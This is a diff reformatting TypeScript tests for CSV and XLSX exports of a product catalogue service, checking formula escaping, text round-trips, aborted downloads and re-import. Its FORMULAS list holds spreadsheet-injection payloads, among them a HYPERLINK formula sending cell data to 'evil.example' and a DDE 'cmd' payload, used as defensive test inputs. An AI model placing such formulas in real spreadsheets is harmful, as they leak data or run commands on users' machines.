@@ -32,7 +32,15 @@ beforeAll(async () => {
 
 async function projectOf(texts: string[]): Promise<string> {
   const { body } = await shop.rest.post('/projects', { name: 'Texts' });
-  await addItems(bed, body.id, texts.map((text, n) => ({ externalId: `item-${n}`, sourceData: { title: text }, generatedContent: { name: text, tags: [text], attributes: { [text]: text } } })));
+  await addItems(
+    bed,
+    body.id,
+    texts.map((text, n) => ({
+      externalId: `item-${n}`,
+      sourceData: { title: text },
+      generatedContent: { name: text, tags: [text], attributes: { [text]: text } },
+    })),
+  );
   return body.id;
 }
 
@@ -51,16 +59,34 @@ async function titlesOf(bytes: Buffer): Promise<(string | undefined)[]> {
 async function sheetOf(id: string): Promise<string> {
   const zip = await fromBufferPromise(await bytesOf(id, 'xlsx'));
   for await (const entry of zip.eachEntry()) {
-    if (entry.fileName === 'xl/worksheets/sheet1.xml') return Buffer.concat(await all(await zip.openReadStreamPromise(entry))).toString();
+    if (entry.fileName === 'xl/worksheets/sheet1.xml')
+      return Buffer.concat(await all(await zip.openReadStreamPromise(entry))).toString();
   }
   throw new Error('no sheet');
 }
 
-const FORMULAS = ['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠A', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0"];
+const FORMULAS = [
+  '=1+1',
+  '+1',
+  '-1+2',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A',
+  '=HYPERLINK("http://evil.example?"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+];
 
 describe('texts that look like formulas', () => {
   it('have an apostrophe before them in CSV, wherever they come from', async () => {
-    const rows: Record<string, string>[] = parse(await bytesOf(await projectOf(FORMULAS), 'csv'), { bom: true, columns: true, record_delimiter: '\r\n' });
+    const rows: Record<string, string>[] = parse(await bytesOf(await projectOf(FORMULAS), 'csv'), {
+      bom: true,
+      columns: true,
+      record_delimiter: '\r\n',
+    });
     expect(rows.map((row) => [row['title'], row['name']])).toEqual(FORMULAS.map((text) => [`'${text}`, `'${text}`]));
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
   });
@@ -76,10 +102,23 @@ describe('texts that look like formulas', () => {
 });
 
 it('texts of every kind come out of a workbook as they went in, but for what Excel cannot hold', async () => {
-  const texts = ['<b>&amp;</b> ]]>', 'a\u0001\u0008\u001Fb', 'line\r\nline\ttab', '_x000D_ and _x0041_', ' blank ', '🪑 größe', '\uFFFE\uFFFF', 'x'.repeat(32_767), 'y'.repeat(40_000)];
+  const texts = [
+    '<b>&amp;</b> ]]>',
+    'a\u0001\u0008\u001Fb',
+    'line\r\nline\ttab',
+    '_x000D_ and _x0041_',
+    ' blank ',
+    '🪑 größe',
+    '\uFFFE\uFFFF',
+    'x'.repeat(32_767),
+    'y'.repeat(40_000),
+  ];
   const found = await titlesOf(await bytesOf(await projectOf(texts), 'xlsx'));
   expect(found.slice(0, 7)).toEqual([...texts.slice(0, 6), '\uFFFD\uFFFD']);
-  expect(found.slice(7).map((text) => [text?.length, text?.at(-1)])).toEqual([[32_767, 'x'], [32_767, '…']]);
+  expect(found.slice(7).map((text) => [text?.length, text?.at(-1)])).toEqual([
+    [32_767, 'x'],
+    [32_767, '…'],
+  ]);
 });
 
 describe.each(['csv', 'xlsx'])('an export as %s', (format) => {
@@ -88,11 +127,19 @@ describe.each(['csv', 'xlsx'])('an export as %s', (format) => {
   it('is no longer read once its reader has left', async () => {
     const lines = logLines(bed);
     const gone = new AbortController();
-    const response = await shop.rest.open('GET', path(), undefined, { 'x-request-id': `leaver-${format}` }, gone.signal);
+    const response = await shop.rest.open(
+      'GET',
+      path(),
+      undefined,
+      { 'x-request-id': `leaver-${format}` },
+      gone.signal,
+    );
     await response.body!.getReader().read();
     gone.abort();
     await eventually(() => lines.some((line) => line.requestId === `leaver-${format}`));
-    expect(lines.filter((line) => line.requestId === `leaver-${format}`)).toMatchObject([{ level: DEBUG, msg: 'reader left' }]);
+    expect(lines.filter((line) => line.requestId === `leaver-${format}`)).toMatchObject([
+      { level: DEBUG, msg: 'reader left' },
+    ]);
   });
 
   it('that cannot be read on breaks off, and is not taken for a whole one', async () => {
@@ -110,21 +157,35 @@ describe.each(['csv', 'xlsx'])('an export as %s', (format) => {
     } finally {
       await changed(em, sql`alter table gone rename to content_items`);
     }
-    expect(lines.filter((line) => line.requestId === `broken-${format}`)).toMatchObject([{ level: ERROR, code: 'INTERNAL' }]);
+    expect(lines.filter((line) => line.requestId === `broken-${format}`)).toMatchObject([
+      { level: ERROR, code: 'INTERNAL' },
+    ]);
   });
 
   it('that cannot be begun is refused in the documented way', async () => {
     const { em } = bed.ctx();
     await changed(em, sql`alter table content_items rename to gone`);
-    const { status, body, headers } = await shop.rest.get(path()).finally(() => changed(em, sql`alter table gone rename to content_items`));
-    expect({ status, body, file: headers.get('content-disposition') }).toEqual({ status: 500, body: { detail: 'Internal server error', code: 'INTERNAL' }, file: null });
+    const { status, body, headers } = await shop.rest
+      .get(path())
+      .finally(() => changed(em, sql`alter table gone rename to content_items`));
+    expect({ status, body, file: headers.get('content-disposition') }).toEqual({
+      status: 500,
+      body: { detail: 'Internal server error', code: 'INTERNAL' },
+      file: null,
+    });
   });
 });
 
 describe('an export taken as a new source', () => {
   const listed = async (projectId: string) => {
     const { body } = await shop.rest.get(`/projects/${projectId}/items`);
-    return body.map((item: Record<string, Record<string, unknown>>) => [item['external_id'], item['item_type'], item['metadata']!['parent_external_id'], item['source_data']!['title'], item['source_data']!['price']]);
+    return body.map((item: Record<string, Record<string, unknown>>) => [
+      item['external_id'],
+      item['item_type'],
+      item['metadata']!['parent_external_id'],
+      item['source_data']!['title'],
+      item['source_data']!['price'],
+    ]);
   };
 
   it.each(['csv', 'xlsx'])('gives the same products and variants (%s)', async (format) => {
@@ -134,8 +195,18 @@ describe('an export taken as a new source', () => {
     expect(known.length).toBeGreaterThan(5);
 
     const { projectId: other } = await newProject(bed, shop);
-    const source = await shop.rest.upload(`/projects/${other}/data-sources/upload`, `export.${format}`, await bytesOf(projectId, format));
-    expect(source).toMatchObject({ status: 201, body: { source_type: format, suggested_mapping: { external_id: 'external_id', title: 'title', parent_external_id: 'parent_external_id' } } });
+    const source = await shop.rest.upload(
+      `/projects/${other}/data-sources/upload`,
+      `export.${format}`,
+      await bytesOf(projectId, format),
+    );
+    expect(source).toMatchObject({
+      status: 201,
+      body: {
+        source_type: format,
+        suggested_mapping: { external_id: 'external_id', title: 'title', parent_external_id: 'parent_external_id' },
+      },
+    });
     const { body } = await shop.rest.post(`/projects/${other}/data-sources/${source.body.id}/import`);
     expect(await jobEnd(shop, body.job_id)).toMatchObject({ status: 'completed', result: { failed: 0 } });
     expect(await listed(other)).toEqual(known);
